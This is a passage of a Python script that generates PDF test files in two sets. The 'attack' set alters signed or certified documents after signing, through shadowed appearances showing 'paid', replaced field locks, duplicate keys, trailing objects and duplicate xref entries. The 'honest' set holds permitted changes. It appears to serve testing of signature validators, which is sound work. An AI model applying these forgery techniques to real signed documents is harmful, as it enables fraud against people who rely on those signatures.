SHOWN = form_xobject(b'BT /F1 30 Tf (paid) Tj ET')
ATTACKS['ssa-p0-nobody-on-paper'] = lambda made: paper.place_field(     # NoView and Print (12.5.3)
    made.signed, b'50 600 250 740', b'/AP<</N 40 0 R>>', {40: SHOWN}, flags=36)
STATES = paper.APPROVAL % b'/AS/%s/AP<</N<</A 40 0 R/B 41 0 R>>>>'
ATTACKS['certified-p2-unsigned-state'] = lambda made: update(
    paper.certified(made.signer, 2, objects={13: STATES % b'A', 40: form_xobject(b'(A) Tj'), 41: SHOWN}), {13: STATES % b'B'})
ATTACKS['certified-p2-unsigned-caption'] = lambda made: changed(made.certified(2), 13, b'/FT/Sig', b'/FT/Sig/MK<</BG[1 0 0]/CA(paid)>>')
ATTACKS['field-moved-by-a-number'] = lambda made: update(
    paper.certified(made.signer, 2, objects={12: (paper.AMOUNT % (b'1', b'')).replace(b'50 500 ', b'50 40 0 R '), 40: b'500'}), {40: b'690'})
ATTACKS['field-colours-replaced'] = lambda made: update(
    paper.certified(made.signer, 2, objects={12: paper.AMOUNT % (b'1', b'/MK 40 0 R'), 40: b'<<>>'}), {40: b'<</BG[1 0 0]>>'})
OWN_LOCK = paper.APPROVAL % b'/Lock 40 0 R%s'
ATTACKS['field-lock-replaced'] = lambda made: craft_pdf.fill(update(
    paper.certified(made.signer, 2, objects={13: OWN_LOCK % b'', 40: b'<</Type/SigFieldLock/Action/All>>'}),
    {13: OWN_LOCK % b'/V 31 0 R', 31: paper.SIGNATURE % b'', 40: b'<</Type/SigFieldLock/Action/Exclude/Fields[(Amount)]>>'}), made.signer)
BELOW = {10: FONTS.replace(b'12 0 R', b'40 0 R') % 8, 12: b'<</Type/Annot/Subtype/Widget/T(Amount)/Parent 40 0 R/Rect[50 500 250 540]>>',
         40: b'<</T(form)/FT/Tx/V(1)/Kids[12 0 R]>>'}
ATTACKS['locked-value-inherited'] = lambda made: changed(
    paper.certified(made.signer, 2, FIELD_LOCK % b'(form.Amount)', BELOW), 40, b'/V(1)', b'/V(9)')
ATTACKS['locked-name-indirect'] = lambda made: update(
    paper.certified(made.signer, 2, FIELD_LOCK % b'40 0 R', {40: b'(Amount)'}), {12: paper.AMOUNT % (b'9', b'')})
UNDRAWN = {12: (paper.AMOUNT % (b'1', b'')).replace(b'/AP<</N 14 0 R>>', b''), 10: b'<</Fields[12 0 R 13 0 R 17 0 R]/DR<</Font<</F1 8 0 R>>>>>>'}
for key in (b'/Q 2', b'/DA(/F1 40 Tf 1 0 0 rg)'):
    ATTACKS[f'form-{key[1:3].decode().strip().lower()}-added'] = lambda made, key=key: changed(
        paper.certified(made.signer, 1, objects=UNDRAWN), 10, b'/Fields', key + b'/Fields')


@family('objstm-first-replaced')
def _(made):
    """Where the objects of a stream begin is an object of its own."""
    fonts = [b'<</Type/Font/Subtype/Type1/BaseFont/%s>> ' % name for name in (b'Helvetica', b'Symbol')]
    plain = paper.write({**OBJECTS, 8: b'null', 60: b'4'})
    table = plain + b'50 0 obj\n%s\nendobj\n' % stream(b'8 0 ' + b''.join(fonts), b'/Type/ObjStm/N 1/First 60 0 R')
    entries = xref_stream(len(table), {50: (1, len(plain), 0), 8: (2, 50, 0)}, 51, b'/Root 1 0 R/Info 16 0 R/Prev %d' % startxref(plain))
    pdf = made.sign(table + entries + b'startxref\n%d\n%%%%EOF\n' % len(table), '--field', 'First')
    return update(pdf, {60: b'%d' % (4 + len(fonts[0]))})


ATTACKS['group-of-a-text-field'] = lambda made: update(made.certified(2), {
    10: paper.FORM % b' 17 0 R 40 0 R', 40: b'<</T(Agency)/Kids[41 0 R]>>', 41: (paper.AMOUNT % (b'9', b'/Parent 40 0 R'))})
ATTACKS['group-of-a-name-that-is-taken'] = lambda made: craft_pdf.fill(update(made.certified(2), {
    10: paper.FORM % b' 17 0 R 40 0 R', 3: PAGE % (b' 17 0 R 30 0 R', b''), 40: b'<</T(Amount)/Kids[30 0 R]>>',
    **paper.signing(b'Second', field=30, value=31, in_field=b'/Parent 40 0 R')}), made.signer)
ATTACKS['shadow-shared-form-resources'] = lambda made: update(
    made.with_objects({10: paper.FORM.replace(b'<</Font<</F1 8 0 R>>>>', b' 40 0 R') % b'', 40: b'<</Font<</F1 8 0 R>>>>'}),
    {1: body(made.signed, 1).replace(b'/Type', b'/DSS<</Certs[40 0 R]>>/Type', 1), 40: b'<</Font<</F1 70 0 R>>>>',
     70: b'<</Type/Font/Subtype/Type1/BaseFont/Symbol>>'})
ATTACKS['ssa-p2-odd-place'] = lambda made: paper.sign_again(
    made.certified(2), made.signer, b'(a) 600 (b) 700', appearance=b'/AP<</N 40 0 R>>', objects={40: SHOWN})
READ = {**TAGGED, 41: b'<</Type/StructElem/S/P/P 40 0 R/K[0]/Pg 3 0 R>>', 60: b'<</Type/StructElem/S/P/P 40 0 R/ActualText(90)>>'}
for name, item in (('element-awake', b'60 0 R'), ('element-twice', b'41 0 R')):
    ATTACKS[f'tagged-{name}'] = lambda made, item=item: update(
        made.with_objects(READ), {40: READ[40].replace(b'[41 0 R]', b'[41 0 R %s]' % item)})
ATTACKS['tagged-element-first'] = lambda made: update(made.with_objects({**READ, 41: READ[41].replace(b'/K[0]', b'')}), {41: READ[41].replace(b'[0]', b' 60 0 R')})
for name, item in (('content-added', b'1'), ('content-referred-to', b'<</Type/MCR/MCID 1>>')):
    ATTACKS[f'tagged-{name}'] = lambda made, item=item: update(made.with_objects(READ), {41: READ[41].replace(b'[0]', b'[0 %s]' % item)})
for name, look in (('look', b'/AP<</N 14 0 R>>'), ('colours', b'/MK<</BG[1 0 0]>>')):
    ATTACKS[f'ssa-p1-timestamp-{name}'] = lambda made, look=look: changed(
        made.certified(1), 13, b'/FT/Sig', b'/FT/Sig/V<</Type/DocTimeStamp/SubFilter/ETSI.RFC3161>>' + look)
# --- trailing data, and files that parsers read differently

ATTACKS['trailing-text'] = lambda made: made.signed + b'see page 2'
ATTACKS['trailing-object'] = lambda made: made.signed + b'5 0 obj\n' + EVIL + b'\nendobj\n'
ATTACKS['trailing-document'] = lambda made: made.signed + paper.write(OBJECTS)
ATTACKS['trailing-signed-document'] = lambda made: made.signed + made.signed
ATTACKS['key-twice'] = lambda made: changed(made.signed, 3, b'/Contents 5 0 R', b'/Contents 5 0 R/Contents 15 0 R')
ATTACKS['key-escaped'] = lambda made: changed(made.signed, 3, b'/Contents 5 0 R', b'/Contents 5 0 R/Cont#65nts 15 0 R')
ATTACKS['key-in-a-comment'] = lambda made: changed(made.signed, 3, b'/Contents 5 0 R', b'/Contents %\n15 0 R%5 0 R\n')
ATTACKS['key-twice-in-the-trailer'] = lambda made: update(made.signed, {40: body(made.signed, 1)}, trailer=b'/Root 40 0 R/Root 1 0 R')
ATTACKS['endstream-inside'] = lambda made: update(made.signed, {5: stream(TEXT % b'1' + b'\nendstream\nendobj\n' + TEXT % b'9')})
ATTACKS['unlisted-object'] = lambda made: update(made.signed + b'5 0 obj\n' + EVIL + b'\nendobj\n', {40: b'<<>>'})


@family('entry-twice')
def _(made):
    """One section that gives object 5 two places."""
    pdf = update(made.signed, {5: EVIL})
    row = re.search(rb'5 1\n\d{10} 00000 n \n', pdf[len(made.signed):])[0]
    old = made.signed.index(b'\n5 0 obj') + 1
    return pdf[:len(made.signed)] + pdf[len(made.signed):].replace(row, row + b'5 1\n%010d 00000 n \n' % old)


@family('generation-raised')
def _(made):
    """Object 5 freed and given again as generation 1, and the page made to name that one."""
    pdf = made.signed
    out = pdf + b'5 1 obj\n' + EVIL + b'\nendobj\n'
    page = body(pdf, 3).replace(b'5 0 R', b'5 1 R')
    return paper.write({3: page}, out, prev=startxref(pdf), extra={5: (len(pdf), 1, ord('n'))})


# --- honest changes

HONEST['signed-again'] = lambda made: made.sign(made.signed, '--field', 'Second')
HONEST['signed-five-times'] = lambda made: functools.reduce(lambda pdf, n: made.sign(pdf, '--field', f'F{n}'), range(4), made.signed)
HONEST['signed-again-visible'] = lambda made: paper.sign_again(
    made.signed, made.signer, b'50 10 250 50', appearance=b'/AP<</N 32 0 R>>', objects={32: form_xobject(b'(A) Tj')})
HONEST['signed-again-certified-2'] = lambda made: paper.sign_again(made.certified(2), made.signer)
HONEST['signed-again-certified-3'] = lambda made: made.sign(made.certified(3), '--field', 'Second')
HONEST['signed-an-empty-field'] = lambda made: fill_empty(made, made.signed)
HONEST['signed-an-empty-field-certified'] = lambda made: fill_empty(made, made.certified(2))
HONEST['filled-in-certified-2'] = lambda made: update(made.certified(2), {12: paper.AMOUNT % (b'2', b''), 14: form_xobject(b'(2) Tj')})
HONEST['filled-in-new-appearance'] = lambda made: update(made.certified(2), {
    12: (paper.AMOUNT % (b'2', b'')).replace(b'14 0 R', b'40 0 R'), 40: form_xobject(b'(2) Tj')})
HONEST['filled-in-to-be-drawn'] = lambda made: update(made.certified(2), {
    12: paper.AMOUNT % (b'2', b''), 10: body(made.certified(2), 10).replace(b'/SigFlags', b'/NeedAppearances true/SigFlags')})
HONEST['locked-by-its-flag'] = lambda made: changed(made.certified(2), 13, b'/FT/Sig', b'/FT/Sig/Ff 1')
HONEST['filled-in-then-signed'] = lambda made: paper.sign_again(update(made.certified(2), {12: paper.AMOUNT % (b'2', b'')}), made.signer)
HONEST['filled-in-unlocked'] = lambda made: update(
    paper.certified(made.signer, 2, b'<</Type/SigRef/TransformMethod/FieldMDP/TransformParams<</Type/TransformParams/V/1.2'
                    b'/Action/Include/Fields[(Other)]>>>>'), {12: paper.AMOUNT % (b'2', b'')})
HONEST['rich-text-filled-in'] = lambda made: update(
    paper.certified(made.signer, 2, objects={12: paper.AMOUNT % (b'1', b'/Ff 33554432/RV 40 0 R'), 40: stream(b'<p>1</p>')}),
    {12: paper.AMOUNT % (b'2', b'/Ff 33554432/RV 40 0 R'), 40: stream(b'<p>2</p>')})
HONEST['signed-below-a-field'] = lambda made: craft_pdf.fill(update(
    paper.certified(made.signer, objects={**BELOW, 12: BELOW[12].replace(b'/Rect', b'/AP<</N 14 0 R>>/Rect')}),
    {3: PAGE % (b' 17 0 R 30 0 R', b''), 40: BELOW[40].replace(b']', b' 30 0 R]'), **paper.signing(b'Second', field=30, value=31, in_field=b'/Parent 40 0 R')}),
    made.signer)
HONEST['signed-below-a-new-group'] = lambda made: craft_pdf.fill(update(made.certified(2), {
    10: paper.FORM % b' 17 0 R 40 0 R', 3: PAGE % (b' 17 0 R 30 0 R', b''), 40: b'<</T(Agency)/Kids[30 0 R]>>',
    **paper.signing(b'Second', field=30, value=31, in_field=b'/Parent 40 0 R')}), made.signer)
HONEST['note-certified-3'] = lambda made: annotated(made.certified(3), b'Text')
HONEST['highlight-certified-3'] = lambda made: annotated(made.certified(3), b'Highlight', b'/QuadPoints[50 690 250 690 50 730 250 730]')
HONEST['security-store'] = lambda made: update(made.signed, {
    1: re.sub(rb'/Extensions\s*<<.*?>>\s*>>', b'', body(made.signed, 1)).replace(b'/Type', b'/DSS<</Certs[40 0 R]/VRI<<>>>>/Extensions<</ESIC<</BaseVersion/1.7/ExtensionLevel 1>>>>/Type', 1),
    40: stream(b'DER')})
HONEST['security-store-certified-1'] = lambda made: update(made.certified(1), {
    1: body(made.certified(1), 1).replace(b'/Type', b'/DSS 41 0 R/Type', 1), 41: b'<</Type/DSS/Certs[40 0 R]>>', 40: stream(b'DER')})
HONEST['security-store-twice'] = lambda made: update(HONEST['security-store-certified-1'](made), {
    41: b'<</Type/DSS/Certs[40 0 R 42 0 R]>>', 42: stream(b'DER2')})
HONEST['document-timestamp'] = lambda made: paper.sign_again(made.certified(1), made.signer, kind=b'/Type/DocTimeStamp/', sub=b'ETSI.RFC3161')
HONEST['metadata'] = lambda made: update(made.signed, {11: stream(b'<x:xmpmeta xmlns:x="adobe:ns:meta/"> </x:xmpmeta>', b'/Type/Metadata/Subtype/XML'),
                                                       16: b'<</Producer(one)/ModDate(D:20261122)>>'})
HONEST['orphan'] = lambda made: update(made.signed, {40: b'<</Nobody/sees>>', 41: EVIL})
HONEST['rewritten-as-it-was'] = lambda made: update(made.signed, {n: body(made.signed, n) for n in (1, 2, 3, 4, 5, 7, 8, 10, 12)})
HONEST['size-of-the-update'] = lambda made: re.sub(rb'/Size \d+(?!.*/Size)', b'/Size 17', update(made.signed, {16: b'<</Producer(two)>>'}),
                                                  flags=re.S)
HONEST['white-space'] = lambda made: made.signed + b'\r\n \0'
HONEST['packed-update'] = lambda made: packed(made.signed, {16: b'<</Producer(two)>>'})
HONEST['empty-update'] = lambda made: update(made.signed, {})


def fill_empty(made, pdf):
    """The field that was there signs: its value, and an appearance."""
    field = body(pdf, 13).replace(b'/FT/Sig', b'/FT/Sig/V 31 0 R/AP<</N 32 0 R>>')
    more = update(pdf, {13: field, 31: paper.SIGNATURE % b'', 32: form_xobject(b'(A) Tj')})
    return craft_pdf.fill(more, made.signer)


def main():
    pki, kyso, folder = sys.argv[1:]
    for kind, families in (('attack', ATTACKS), ('honest', HONEST)):
        target = pathlib.Path(folder, kind)
        target.mkdir(parents=True, exist_ok=True)
        made = Made(pki, kyso, folder)
        for name, make in families.items():
            (target / f'{name}.pdf').write_bytes(make(made))


if __name__ == '__main__':
    main()
